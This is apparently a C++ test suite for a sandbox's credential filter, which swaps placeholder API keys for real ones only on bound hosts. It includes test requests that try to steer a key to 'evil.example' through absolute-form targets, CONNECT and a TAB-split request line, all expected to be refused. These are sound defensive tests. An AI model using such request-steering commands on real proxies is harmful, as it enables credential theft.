// Credentials outside the jail, the network filter's side, in
// real jails: a TLS server on the host's loopback with its own test CA
// (trusted by the filter through --test-upstream-ca, never by the jail),
// a credential bound to it through PJ_TEST_BIND; the jail holds only the
// placeholder. The jail trusts the run's CA through the variables and the
// bundle mounted over /etc/ssl/certs/ca-certificates.crt.
#include <sys/stat.h>

#include <doctest/doctest.h>

#include <string>

#include "harness.h"
#include "stand_in.h"
#include "text.h"

using namespace pj::test;

namespace {

const std::string kNoProxyEnv = "env -u NO_PROXY -u no_proxy ";

// Answers every request with what it received (x-api-key, Authorization,
// Accept-Encoding), echoing x-api-key in a field too; /gzip compressed;
// /ws upgrades, then, once the client sends, echoes its Authorization in
// a text message split in two frames around a ping, and closes. Every
// request head goes to the log.
const char* const kEchoHandler = R"PY(
import gzip
class Handler(StandIn):
    def any(self):
        note(self.requestline + "\n" + str(self.headers) + "--\n")
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        if self.path.startswith("/ws") and self.headers.get("Upgrade", "").lower() == "websocket":
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            self.end_headers()
            self.wfile.flush()
            self.connection.recv(4096)
            echo = ("auth=" + self.headers.get("Authorization", "")).encode()
            half = len(echo) // 2
            frame = lambda b0, p: bytes([b0, len(p)]) + p
            self.connection.sendall(frame(0x01, echo[:half]) + frame(0x89, b"hb") + frame(0x80, echo[half:]))
            self.close_connection = True
            return
        echo = ("seen x-api-key=%s authorization=%s accept-encoding=%s body=%s\n" % (self.headers.get("x-api-key"),
                self.headers.get("Authorization"), self.headers.get("Accept-Encoding"), body.decode())).encode()
        self.send_response(200)
        if self.path.startswith("/gzip"):
            echo = gzip.compress(echo)
            self.send_header("Content-Encoding", "gzip")
        self.send_header("X-Echo", self.headers.get("x-api-key") or "")
        self.send_header("Content-Length", str(len(echo)))
        self.end_headers()
        self.wfile.write(echo)
)PY";

std::string unique_secret(const std::string& prefix) { return prefix + unique_token() + unique_token(); }

// PJ_TEST_BIND with one NAME=PLACEHOLDER=VALUE@HOST:PORT line per binding:
// an environment variable, never an argument (init shows its arguments).
std::string bind_env(const std::vector<std::string>& lines) {
  std::string v = "PJ_TEST_BIND=";
  for (const auto& l : lines) v += l + "\n";
  return v;
}

}  // namespace

TEST_CASE("credentials: the jail's init shows no argument of pi-jail and its memory and environment are unreadable") {
  Sandbox sb;
  // A key in the host's environment (a real one reaches pi-jail this way)
  // and a test binding: both are in the memory pi-jail had at the clone.
  const std::string env_key = unique_secret("sk-ant-api03-HOSTENV");
  const std::string real = unique_secret("sk-ant-api03-REAL"), ph = unique_secret("sk-ant-api03-PH");
  const std::string marker = "--allow-read";  // on pi-jail's command line (Sandbox::jail)
  const std::vector<std::string> env{"ANTHROPIC_API_KEY=" + env_key,
                                     bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:1"})};
  for (const auto& needle : {env_key, real, marker}) {
    CAPTURE(needle);
    auto o = sb.jail({probe(), "find-in", "1", hex(needle)}, {}, "", env);
    CAPTURE(o.err);
    CHECK(o.status == 0);
    // The command line is blanked; environment and memory refused, not
    // merely searched without a hit.
    CHECK(o.out.find("cmdline absent\n") == 0);
    CHECK(o.out.find("environ EACCES\n") != std::string::npos);
    CHECK(o.out.find("mem EACCES\n") != std::string::npos);
    CHECK(o.out.find("found") == std::string::npos);
  }
  // The jail's own processes are one trust domain: a sibling's memory is
  // readable (README), so the jail holds only placeholders anyway.
  // Searched once the sibling is sleep itself, not the shell it forks from.
  auto o = sb.jail({"/bin/sh", "-c",
                    "sleep 5 & until tr '\\0' ' ' < /proc/$!/cmdline | grep -q '^sleep 5 '; do :; done; " + probe() +
                        " find-in $! " + hex("sleep") + "; kill $!"},
                   {}, "", env);
  CAPTURE(o.out);
  CAPTURE(o.err);
  CHECK(o.out.find("cmdline found\n") == 0);
  CHECK(o.out.find("mem found\n") != std::string::npos);
}

TEST_CASE(
    "credentials: the jail's placeholder reaches the bound host as the real key; echoes come back as the placeholder") {
  Sandbox sb;
  const auto certs = TestCerts::signed_by_ca(sb.base, "server.pem", {"IP:127.0.0.1"});
  StandInServer server(sb.base, "bound", certs, kEchoHandler);
  const std::string ph = unique_secret("sk-ant-api03-PH");
  const std::string real = unique_secret("sk-ant-api03-REAL");
  const std::string url = "https://127.0.0.1:" + server.port();
  const std::string report = sb.outside + "/r.json", log = sb.outside + "/net.jsonl";
  // Direct (the forwarded loopback port), through CONNECT, through SOCKS5;
  // Basic credentials; and with only the mounted bundle (no variables).
  auto o = sb.jail({"/bin/sh", "-c",
                    "curl -sS -H 'x-api-key: " + ph + "' " + url + "/a && " + kNoProxyEnv +
                        "curl -sS -x http://127.0.0.1:3128 -H 'Authorization: Bearer " + ph + "' " + url + "/b && " +
                        kNoProxyEnv + "curl -sS --socks5-hostname 127.0.0.1:1080 -D - -H 'x-api-key: " + ph + "' " +
                        url + "/c && curl -sS -u 'user:" + ph + "' " + url + "/d && " +
                        "env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS -H 'x-api-key: " + ph + "' " + url + "/e && " +
                        "curl -sS -H 'x-api-key: " + ph + "' --data-binary 'prompt mentions " + ph + "' " + url + "/f"},
                   {"--allow-net", "127.0.0.1:" + server.port(), "--test-upstream-ca", certs.ca, "--report", report,
                    "--net-log", log},
                   "", {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port()})});
  CAPTURE(o.err);
  CAPTURE(o.out);
  CHECK(o.status == 0);
  const std::string seen = server.log();
  CAPTURE(seen);
  // The server got the real key every time, never the placeholder in a header.
  CHECK(seen.find("x-api-key: " + real) != std::string::npos);
  CHECK(seen.find("Authorization: Bearer " + real) != std::string::npos);
  CHECK(seen.find("Authorization: Basic " + base64("user:" + real)) != std::string::npos);
  CHECK(seen.find("x-api-key: " + ph) == std::string::npos);
  CHECK(seen.find("Accept-Encoding: identity") != std::string::npos);
  // Six requests reached it.
  CHECK(count(seen, "--\n") == 6);
  // The echoes (body and the X-Echo field) came back as the placeholder.
  CHECK(o.out.find("seen x-api-key=" + ph) != std::string::npos);
  CHECK(o.out.find("authorization=Bearer " + ph) != std::string::npos);
  CHECK(o.out.find("X-Echo: " + ph) != std::string::npos);
  // A body is never substituted: the prompt's placeholder stays one.
  CHECK(o.out.find("body=prompt mentions " + ph) != std::string::npos);
  CHECK(o.out.find(real) == std::string::npos);
  // Basic's echo too, in its base64 form.
  CHECK(o.out.find("authorization=Basic " + base64("user:" + ph)) != std::string::npos);
  CHECK(o.out.find(base64("user:" + real)) == std::string::npos);
  // The real key is in no output, report or log of pi-jail.
  std::string text = read_file(report), lines = read_file(log);
  CHECK(o.err.find(real) == std::string::npos);
  CHECK(text.find(real) == std::string::npos);
  CHECK(lines.find(real) == std::string::npos);
  CHECK(text.find("\"credential\"") != std::string::npos);
  CHECK(text.find("substituted TEST_KEY") != std::string::npos);
  CHECK(validate_report(report).status == 0);
}

TEST_CASE("credentials: a placeholder sent where it is not bound is refused (403) and reported; never sent in clear") {
  Sandbox sb;
  const auto certs = TestCerts::signed_by_ca(sb.base, "server.pem", {"IP:127.0.0.1"});
  StandInServer server(sb.base, "bound", certs, kEchoHandler);
  HttpServer plain("plain-served\n");
  const std::string ph = unique_secret("sk-ant-api03-PH"), real = unique_secret("sk-ant-api03-REAL");
  const std::string ph2 = unique_secret("sk-OTHER-PH"), real2 = unique_secret("sk-OTHER-REAL");
  const std::string url = "https://127.0.0.1:" + server.port();
  const std::string report = sb.outside + "/r.json";
  auto o = sb.jail(
      {"/bin/sh", "-c",
       // OTHER's placeholder to the host only TEST_KEY is bound to.
       "curl -s -o /dev/null -w '%{http_code}\\n' -H 'x-api-key: " + ph2 + "' " + url + "/x; " +
           // In the URL.
           "curl -s -o /dev/null -w '%{http_code}\\n' '" + url + "/y?k=" + ph2 + "'; " +
           // A placeholder in a plain-http request, even to an allowed host.
           kNoProxyEnv + "curl -s -o /dev/null -w '%{http_code}\\n' -x http://127.0.0.1:3128 -H 'x-api-key: " + ph +
           "' http://127.0.0.1:" + plain.port() + "/; " +
           // And the bound one still works on the same run.
           "curl -sS -H 'x-api-key: " + ph + "' " + url + "/ok"},
      {"--allow-net", "127.0.0.1:" + server.port(), "--allow-net", "127.0.0.1:" + plain.port(), "--test-upstream-ca",
       certs.ca, "--report", report},
      "",
      {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port(),
                 "OTHER_KEY=" + ph2 + "=" + real2 + "@127.0.0.1:1"})});
  CAPTURE(o.err);
  CAPTURE(o.out);
  CHECK(o.out.find("403\n403\n403\n") == 0);
  CHECK(o.out.find("seen x-api-key=" + ph) != std::string::npos);
  const std::string seen = server.log();
  CHECK(seen.find(ph2) == std::string::npos);
  CHECK(seen.find(real2) == std::string::npos);
  CHECK(seen.find("/ok") != std::string::npos);
  CHECK(plain.hits() == 0);
  std::string text = read_file(report);
  CHECK(text.find("a placeholder of OTHER_KEY was sent to 127.0.0.1:" + server.port()) != std::string::npos);
  CHECK(text.find("a placeholder of TEST_KEY in a plain-http request") != std::string::npos);
  CHECK(text.find(real) == std::string::npos);
  CHECK(text.find(real2) == std::string::npos);
  CHECK(o.err.find(real2) == std::string::npos);
}

TEST_CASE("credentials: a server the filter cannot verify is refused (502), however the jail's CA is set up") {
  Sandbox sb;
  const auto certs = TestCerts::self_signed(sb.base, "untrusted.pem");  // not the test CA's
  StandInServer server(sb.base, "untrusted", certs, kEchoHandler);
  const std::string ph = unique_secret("sk-ant-api03-PH"), real = unique_secret("sk-ant-api03-REAL");
  const std::string report = sb.outside + "/r.json";
  // The jail trusts the untrusted cert itself too: that changes nothing upstream.
  std::string jail_ca = sb.ws + "/evil-ca.pem";
  sh_ok("cp " + certs.cert + " " + jail_ca);
  auto o = sb.jail({"/bin/sh", "-c",
                    "curl -s -w '%{http_code}\\n' -H 'x-api-key: " + ph + "' https://127.0.0.1:" + server.port() +
                        "/; SSL_CERT_FILE=" + jail_ca + " curl -s -k -w '%{http_code}\\n' -H 'x-api-key: " + ph +
                        "' https://127.0.0.1:" + server.port() + "/"},
                   {"--allow-net", "127.0.0.1:" + server.port(), "--report", report}, "",
                   {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port()})});
  CAPTURE(o.err);
  CAPTURE(o.out);
  CHECK(o.out.find("the server's certificate was not verified") != std::string::npos);
  CHECK(o.out.find("502\n") != std::string::npos);
  CHECK(o.out.find("200") == std::string::npos);
  CHECK(server.log().empty());  // no request ever reached it
  std::string text = read_file(report);
  CHECK(text.find("the server's certificate was not verified") != std::string::npos);
  CHECK(text.find(real) == std::string::npos);
}

// The filter reads the system's trust store at the first connection it
// terminates (most runs make none): one that does not parse fails that
// connection and every later one, never lets one through unverified.
TEST_CASE(
    "credentials: a system trust store that does not parse fails every connection to a bound host, and the end of "
    "the run names it") {
  Sandbox sb;
  const auto certs = TestCerts::signed_by_ca(sb.base, "server.pem", {"IP:127.0.0.1"});
  StandInServer server(sb.base, "echo", certs, kEchoHandler);
  const std::string broken = sb.outside + "/broken-roots.pem";
  write_file(broken, "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n");
  const std::string ph = unique_secret("sk-ant-api03-PH"), real = unique_secret("sk-ant-api03-REAL");
  const std::string url = "https://127.0.0.1:" + server.port() + "/";
  const std::string report = sb.outside + "/r.json";
  auto o =
      sb.jail({"/bin/sh", "-c",
               "curl -s -o /dev/null -w '%{http_code}\\n' -H 'x-api-key: " + ph + "' " + url +
                   "; curl -s -o /dev/null -w '%{http_code}\\n' -H 'x-api-key: " + ph + "' " + url + "; touch ran"},
              {"--allow-net", "127.0.0.1:" + server.port(), "--test-upstream-ca", certs.ca, "--report", report}, "",
              {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port()}), "SSL_CERT_FILE=" + broken});
  CAPTURE(o.err);
  CAPTURE(o.out);
  CHECK(o.status == 0);
  CHECK(exists(sb.ws + "/ran"));
  CHECK(o.out.find("200") == std::string::npos);
  CHECK(server.log().empty());  // no request ever reached it
  const std::string text = read_file(report);
  CAPTURE(text);
  const size_t why = text.find("the credential filter's TLS: load the system's trust store");
  CHECK(why != std::string::npos);
  // Both connections, in one entry.
  const size_t entry = text.rfind("\"count\": ", why);
  REQUIRE(entry != std::string::npos);
  CHECK(text.compare(entry, 11, "\"count\": 2,") == 0);
  CHECK(text.find(real) == std::string::npos);
}

TEST_CASE("credentials: an upstream CA file that is a FIFO or a directory stops the run (125) before the command") {
  Sandbox sb;
  const std::string fifo = sb.outside + "/ca-fifo";
  REQUIRE(::mkfifo(fifo.c_str(), 0600) == 0);
  const std::string ph = unique_secret("sk-ant-api03-PH"), real = unique_secret("sk-ant-api03-REAL");
  for (const std::string& ca : {fifo, sb.outside}) {
    CAPTURE(ca);
    // Before: open(2) of the FIFO waited for a writer, and the run with it.
    auto o = sb.jail({"/bin/sh", "-c", "touch ran"}, {"--allow-net", "127.0.0.1:9", "--test-upstream-ca", ca}, "",
                     {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:9"})});
    CAPTURE(o.err);
    CHECK(o.status == 125);
    CHECK(o.err.find("the upstream CA file " + ca + ": not a regular file") != std::string::npos);
    CHECK_FALSE(exists(sb.ws + "/ran"));
  }
}

TEST_CASE("credentials: a compressed answer is refused (502); a WebSocket's frames come back masked, reassembled") {
  Sandbox sb;
  const auto certs = TestCerts::signed_by_ca(sb.base, "server.pem", {"IP:127.0.0.1"});
  StandInServer server(sb.base, "bound", certs, kEchoHandler);
  const std::string ph = unique_secret("sk-ant-oat01-PH"), real = unique_secret("sk-ant-oat01-REAL");
  // The client offers compression, which the filter strips: a compressed
  // frame could not be masked. It prints every byte it got, in hex.
  const std::string js =
      "const https=require('https');"
      "const req=https.request({host:'127.0.0.1',port:" +
      server.port() +
      ",path:'/ws',headers:{Connection:'Upgrade',"
      "Upgrade:'websocket','Sec-WebSocket-Extensions':'permessage-deflate',Authorization:'Bearer " +
      ph +
      "'}});"
      "req.on('upgrade',(res,sock)=>{console.log('status '+res.statusCode);let got=Buffer.alloc(0);"
      "sock.on('data',d=>{got=Buffer.concat([got,d]);});"
      "sock.on('close',()=>{console.log('got '+got.toString('hex'));process.exit(0);});sock.write('ping');});"
      "req.on('response',r=>{console.log('no upgrade '+r.statusCode);process.exit(1);});"
      "req.on('error',e=>{console.log('error '+e.message);process.exit(1);});req.end();";
  auto o = sb.jail({"/bin/sh", "-c",
                    "curl -s -w '%{http_code}\\n' -H 'x-api-key: " + ph + "' https://127.0.0.1:" + server.port() +
                        "/gzip; node -e \"$0\"",
                    js},
                   {"--allow-net", "127.0.0.1:" + server.port(), "--test-upstream-ca", certs.ca}, "",
                   {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port()})});
  CAPTURE(o.err);
  CAPTURE(o.out);
  CHECK(o.out.find("gzip-encoded body, which cannot be checked") != std::string::npos);
  CHECK(o.out.find("502\n") != std::string::npos);
  CHECK(o.out.find("status 101\n") != std::string::npos);
  // The ping, then the two text frames as one message, masked whole.
  const std::string text = "auth=Bearer " + ph;
  CHECK(o.out.find("got " + hex("\x89\x02hb\x81" + std::string(1, static_cast<char>(text.size())) + text) + "\n") !=
        std::string::npos);
  const std::string seen = server.log();
  CHECK(seen.find("GET /ws") != std::string::npos);
  CHECK(seen.find("Authorization: Bearer " + real) != std::string::npos);
  CHECK(seen.find("Sec-WebSocket-Extensions") == std::string::npos);
  // No part of the real key: the server split it between two frames.
  const std::string secret = real.substr(13);
  CHECK(o.out.find(hex(secret.substr(0, 16))) == std::string::npos);
  CHECK(o.out.find(hex(secret.substr(secret.size() - 16))) == std::string::npos);
  CHECK(o.out.find(real) == std::string::npos);
}

TEST_CASE("credentials: 500 idle TLS connections to a bound host do not keep the next model call out") {
  Sandbox sb;
  const auto certs = TestCerts::signed_by_ca(sb.base, "server.pem", {"IP:127.0.0.1"});
  StandInServer server(sb.base, "bound", certs, kEchoHandler);
  const std::string ph = unique_secret("sk-ant-api03-PH"), real = unique_secret("sk-ant-api03-REAL");
  // Each connection counts once, whether it was made, refused or closed
  // later to make room; then a model call as Pi makes it.
  const std::string js =
      "const tls=require('tls');let n=0;const all=[];"
      "const go=()=>{require('child_process').exec(\"curl -sS -w ' %{http_code}' -H 'x-api-key: " +
      ph + "' https://127.0.0.1:" + server.port() +
      "/model\",(e,out,err)=>{console.log('call '+out+err);process.exit(0);});};"
      "for(let i=0;i<500;i++){let counted=false;const once=()=>{if(counted)return;counted=true;if(++n==500)go();};"
      "const s=tls.connect({host:'127.0.0.1',port:" +
      server.port() +
      "});s.on('secureConnect',once);"
      "s.on('error',once);s.on('close',once);all.push(s);}";
  auto o = sb.jail({"/bin/sh", "-c", "node -e \"$0\"", js},
                   {"--allow-net", "127.0.0.1:" + server.port(), "--test-upstream-ca", certs.ca}, "",
                   {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port()})});
  CAPTURE(o.err);
  CAPTURE(o.out);
  CHECK(o.status == 0);
  CHECK(o.out.find("call seen x-api-key=" + ph) != std::string::npos);
  CHECK(o.out.find(" 200\n") != std::string::npos);
  CHECK(server.log().find("x-api-key: " + real) != std::string::npos);
}

TEST_CASE(
    "credentials: an absolute-form, CONNECT or TAB-split request line never reaches the bound host with the key") {
  Sandbox sb;
  const auto certs = TestCerts::signed_by_ca(sb.base, "server.pem", {"IP:127.0.0.1"});
  StandInServer server(sb.base, "bound", certs, kEchoHandler);
  const std::string ph = unique_secret("sk-ant-api03-PH"), real = unique_secret("sk-ant-api03-REAL");
  const std::string url = "https://127.0.0.1:" + server.port();
  const std::string code = "curl -s -o /dev/null -w '%{http_code}\\n' -H 'x-api-key: " + ph + "' ";
  // A server takes the authority of an absolute-form target over Host
  // (RFC 9112 section 3.2.2): each of these would steer the real key.
  auto o = sb.jail({"/bin/sh", "-c",
                    code + "--request-target http://evil.example/steal " + url + "/; " + code +
                        "--request-target https://evil.example:443/echo " + url + "/; " + code +
                        "-X CONNECT --request-target evil.example:443 " + url + "/; " + code +
                        "-X \"$(printf 'POST\\t/api/oauth/claude_cli/create_api_key ')\" " + url + "/; " + code +
                        "--request-target https://127.0.0.1:" + server.port() + "/abs?q=1 " + url + "/"},
                   {"--allow-net", "127.0.0.1:" + server.port(), "--test-upstream-ca", certs.ca}, "",
                   {bind_env({"TEST_KEY=" + ph + "=" + real + "@127.0.0.1:" + server.port()})});
  CAPTURE(o.err);
  CAPTURE(o.out);
  CHECK(o.out == "403\n403\n403\n400\n200\n");
  const std::string seen = server.log();
  CAPTURE(seen);
  CHECK(seen.find("evil") == std::string::npos);
  CHECK(seen.find("oauth") == std::string::npos);
  // The bound authority's own absolute form arrives in origin form.
  CHECK(seen.find("GET /abs?q=1 HTTP/1.1\n") == 0);
  CHECK(seen.find("x-api-key: " + real) != std::string::npos);
}

namespace {

// git's smart HTTP: git http-backend (as CGI) over the repositories in
// args[0]. Each request's method, path and transfer coding go to the log.
const char* const kGitHandler = R"PY(
import subprocess
class Handler(StandIn):
    def any(self):
        path, _, query = self.path.partition("?")
        coding = self.headers.get("Transfer-Encoding", "")
        if coding.lower() == "chunked":
            body = b""
            while True:
                n = int(self.rfile.readline().strip(), 16)
                if n == 0:
                    self.rfile.readline()
                    break
                body += self.rfile.read(n)
                self.rfile.readline()
        else:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        note("%s %s %s\n" % (self.command, path, coding))
        env = dict(os.environ, GIT_PROJECT_ROOT=args[0], GIT_HTTP_EXPORT_ALL="1", PATH_INFO=path,
                   QUERY_STRING=query, REQUEST_METHOD=self.command, CONTENT_LENGTH=str(len(body)),
                   CONTENT_TYPE=self.headers.get("Content-Type", ""), REMOTE_USER="jail", REMOTE_ADDR="127.0.0.1",
                   HTTP_CONTENT_ENCODING=self.headers.get("Content-Encoding", ""))
        out = subprocess.run(["git", "http-backend"], input=body, env=env, capture_output=True).stdout
        head, _, rest = out.partition(b"\r\n\r\n")
        status, fields = 200, []
        for line in head.decode().split("\r\n"):
            name, _, value = line.partition(":")
            if name.lower() == "status":
                status = int(value.split()[0])
            elif name:
                fields.append((name, value.strip()))
        self.send_response(status)
        for name, value in fields:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(rest)))
        self.end_headers()
        self.wfile.write(rest)
)PY";

}  // namespace

// Under the pi profile every provider's token endpoint is intercepted, so
// github.com is in every Pi run: git's HTTPS (GnuTLS, as Debian's wget)
// must trust the run's certificates as OpenSSL's clients do. GnuTLS checks
// a leaf's CN against the CA's DNS constraints when it has no DNS SAN: an
// address's leaf with a CN was refused ("violates the signer's
// constraints").
TEST_CASE(
    "credentials: git clones and pushes over HTTPS, and wget fetches, through a connection the filter terminates") {
  Sandbox sb;
  const auto certs = TestCerts::signed_by_ca(sb.base, "server.pem", {"IP:127.0.0.1"});
  const std::string repos = sb.base + "/repos", src = sb.base + "/src";
  sh_ok("git init -q --bare " + repos + "/r.git && git -C " + repos + "/r.git config http.receivepack true && " +
        "git -C " + repos + "/r.git symbolic-ref HEAD refs/heads/main && git init -q " + src + " && cd " + src +
        " && head -c 3000000 /dev/urandom > big && echo one > f && git add . && "
        "git -c user.email=t@t -c user.name=t commit -qm one && git push -q " +
        repos + "/r.git HEAD:refs/heads/main");
  StandInServer server(sb.base, "git", certs, kGitHandler, {repos});
  const std::string port = server.port(), url = "https://127.0.0.1:" + port + "/r.git";
  const std::string report = sb.outside + "/r.json";
  // Nothing bound: a login endpoint of the test build's, as github.com is.
  auto o = sb.jail({"/bin/sh", "-c",
                    "git clone -q " + url + " c && cd c && cat f && head -c 3000000 /dev/urandom > big2 && " +
                        "git add big2 && git -c user.email=j@j -c user.name=j commit -qm two && " +
                        "git push -q origin HEAD:main && echo pushed && wget -q -O - " + url + "/HEAD"},
                   {"--allow-net", "127.0.0.1:" + port, "--test-upstream-ca", certs.ca, "--test-token-endpoint",
                    "github-copilot@127.0.0.1:" + port + "/login/oauth/access_token", "--report", report});
  CAPTURE(o.err);
  CAPTURE(server.log());
  CHECK(o.status == 0);
  CHECK(o.out == "one\npushed\nref: refs/heads/main\n");
  // The push arrived, chunked (larger than git's 1 MiB post buffer).
  CHECK(server.log().find("POST /r.git/git-receive-pack chunked\n") != std::string::npos);
  CHECK(run({"/usr/bin/git", "-C", repos + "/r.git", "log", "--format=%s", "main"}).out == "two\none\n");
  // Through the filter's TLS, not a tunnel.
  CHECK(read_file(report).find("TLS intercepted for credentials") != std::string::npos);
}
